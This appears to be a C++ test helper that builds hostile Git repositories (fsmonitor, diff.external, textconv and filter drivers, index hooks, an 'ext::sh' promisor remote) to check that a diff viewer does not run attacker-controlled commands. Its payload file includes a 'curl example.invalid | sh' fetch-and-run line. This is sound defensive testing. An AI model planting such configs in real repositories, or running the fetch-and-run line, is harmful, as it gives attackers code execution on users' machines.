#include "HostileRepos.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>

#include <stdexcept>

#include <sys/stat.h>
#include <utime.h>

namespace {

const QString kPayload = QStringLiteral("payload.txt");

void writeBase(TestRepo& repo, const HostileCase& c)
{
    repo.init();
    if (*c.attributes)
        repo.write(QStringLiteral(".gitattributes"), c.attributes);
    repo.write(kPayload, "echo safe\n");
    repo.write(QStringLiteral("other.txt"), "unrelated\n");
}

void check(const GitOutput& r, const char* what)
{
    if (r.exitCode != 0)
        throw std::runtime_error(std::string(what) + ": " + r.err.toStdString());
}

// Scripts live inside .git, where they are never committed, like an attacker's would in a repository
// unpacked from an archive.
void configure(TestRepo& repo, const HostileCase& c, const QString& marker)
{
    if (c.configKey) {
        const QString script = repo.writeMarkerScript(QStringLiteral(".git/evil/script"), marker,
                                                      QString::fromUtf8(c.scriptRest));
        check(repo.git({QStringLiteral("config"), QString::fromUtf8(c.configKey), script}), "git config");
    }
    if (c.kind == HostileKind::IndexHook)
        repo.writeMarkerScript(QStringLiteral(".git/hooks/post-index-change"), marker, QString());
}

// Moves the modification time back so that a later touch is a real stat change.
void backdate(const QString& path)
{
    struct utimbuf times
    {
    };
    times.actime = times.modtime = 1000000000;
    ::utime(QFile::encodeName(path).constData(), &times);
}

} // namespace

const std::vector<HostileCase>& hostileCases()
{
    static const std::vector<HostileCase> cases = {
        {"fsmonitor hook", HostileKind::Fsmonitor, "", "core.fsmonitor", "exit 1"},
        {"external diff tool", HostileKind::ExternalDiff, "", "diff.external", "exit 0"},
        {"textconv driver", HostileKind::Textconv, "*.txt diff=evil\n", "diff.evil.textconv", "cat \"$1\""},
        {"clean filter", HostileKind::CleanFilter, "*.txt filter=evil\n", "filter.evil.clean", "cat"},
        {"long-running filter process", HostileKind::ProcessFilter, "*.txt filter=evil\n",
         "filter.evil.process", "exit 1"},
        {"clean filter beside eol attributes", HostileKind::EolFilter, "*.txt text eol=crlf filter=evil\n",
         "filter.evil.clean", "cat"},
        {"post-index-change hook", HostileKind::IndexHook, "", nullptr, ""},
        {"promisor fetch of a missing blob", HostileKind::PromisorFetch, "", nullptr, ""},
    };
    return cases;
}

bool HostileSetup::markerExists() const
{
    return QFileInfo::exists(marker);
}

void HostileSetup::clearMarker() const
{
    QFile::remove(marker);
}

QByteArray HostileSetup::expectedDiff() const
{
    return twin ? twin->plainDiff(kPayload) : QByteArray();
}

HostileSetup makeHostileRepo(const HostileCase& c)
{
    const HostileKind kind = c.kind;
    HostileSetup setup;
    setup.markers = std::make_unique<QTemporaryDir>();
    setup.marker = setup.markers->path() + QStringLiteral("/ran");
    setup.repo = std::make_unique<TestRepo>();
    TestRepo& repo = *setup.repo;

    if (kind == HostileKind::PromisorFetch) {
        // A server with the blob, and a blobless clone that only knows its name.
        TestRepo server;
        writeBase(server, c);
        server.commitAll();
        check(server.git({QStringLiteral("config"), QStringLiteral("uploadpack.allowFilter"),
                          QStringLiteral("true")}),
              "config");
        const QString clone = repo.path(QStringLiteral("clone"));
        check(runTestGit(repo.root(),
                         {QStringLiteral("clone"), QStringLiteral("-q"), QStringLiteral("--filter=blob:none"),
                          QStringLiteral("--no-checkout"), QStringLiteral("file://") + server.root(), clone}),
              "clone");
        const auto inClone = [&](const QStringList& args) { check(runTestGit(clone, args), "in the clone"); };
        inClone({QStringLiteral("read-tree"), QStringLiteral("HEAD")});
        inClone({QStringLiteral("config"), QStringLiteral("protocol.ext.allow"), QStringLiteral("always")});
        inClone({QStringLiteral("config"), QStringLiteral("remote.origin.url"),
                 QStringLiteral("ext::sh -c echo% ran% >>%1").arg(setup.marker)});
        setup.file = clone + QLatin1Char('/') + kPayload;
        QFile out(setup.file);
        if (!out.open(QIODevice::WriteOnly) || out.write("echo pwned\n") < 0)
            throw std::runtime_error("cannot write payload");
        return setup;
    }

    writeBase(repo, c);
    repo.commitAll();
    configure(repo, c, setup.marker);
    setup.twin = std::make_unique<TestRepo>();
    writeBase(*setup.twin, c);
    setup.twin->commitAll();

    setup.file = repo.path(kPayload);
    if (kind == HostileKind::IndexHook) {
        // Same content, newer time: a refresh rewrites the index, which fires the hook.
        backdate(setup.file);
        check(repo.git({QStringLiteral("update-index"), QStringLiteral("--refresh")}), "refresh");
        ::utime(QFile::encodeName(setup.file).constData(), nullptr);
        return setup;
    }
    // The eol case's file has CRLF line ends, which the twin's plain diff drops as the viewer must.
    const QByteArray modified = kind == HostileKind::EolFilter ? "echo pwned\r\ncurl example.invalid | sh\r\n"
                                                               : "echo pwned\ncurl example.invalid | sh\n";
    repo.write(kPayload, modified);
    setup.twin->write(kPayload, modified);
    return setup;
}
